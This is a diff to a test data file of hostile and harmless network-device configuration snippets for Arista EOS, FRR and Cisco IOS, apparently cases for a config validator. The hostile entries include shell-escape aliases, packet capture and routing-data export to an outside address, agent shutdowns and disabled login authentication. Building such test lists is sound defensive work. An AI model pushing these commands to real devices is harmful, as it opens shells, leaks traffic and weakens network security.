@@ -23,6 +23,7 @@ HOSTILE: list[tuple[str, str, list[str]]] = [
     ("management", "juniper_junos", ["set interfaces em0 unit 0 family inet filter input DROP"]),
     ("shell", "arista_eos", ["python-shell"]),
     ("shell", "arista_eos", ["alias x bash"]),  # EOS: alias NAME COMMAND
+    ("shell", "arista_eos", ["alias x", "   10 bash"]),  # a multi-line alias: numbered commands
     ("exfiltration", "arista_eos", ["tcpdump interface Ethernet1 file flash:x.pcap"]),
     ("kill-switch", "arista_eos", ["agent Rib shutdown"]),
     (
@@ -31,6 +32,7 @@ HOSTILE: list[tuple[str, str, list[str]]] = [
         ["router bgp 65001", " bmp targets LAB", "  bmp connect 10.6.6.6 port 5000"],
     ),
     ("exfiltration", "frr", ["fpm address 10.6.6.6"]),
+    ("exfiltration", "frr", ["fpm connection ip 10.6.6.6 port 2620"]),  # zebra's `-M fpm`
     ("management", "cisco_ios", ["ena secret 0 x"]),
     ("management", "cisco_ios", ["line vty 0 4", " transport input all"]),
     ("management", "cisco_ios", ["do conf t", "aaa authentication login default none"]),
@@ -229,6 +231,7 @@ HARMLESS: list[tuple[str, list[str]]] = [
     ("cisco_ios", ["ntp server 10.0.0.1", "ip domain-name lab.example"]),
     ("arista_eos", ["router bgp 65001", " neighbor 10.0.0.2 remote-as 65002", " no shutdown"]),
     ("arista_eos", ["vlan 10", " name users"]),
+    ("arista_eos", ["alias shint show interfaces status", "no alias old"]),
     ("arista_eos", ["interface Ethernet1", " description Überlink — R2"]),  # EOS reads 8 bits
     ("frr", ["interface eth1", " description Straße nach R2"]),
     ("frr", ["router ospf", " ospf router-id 10.255.255.1", " network 10.0.12.0/24 area 0"]),
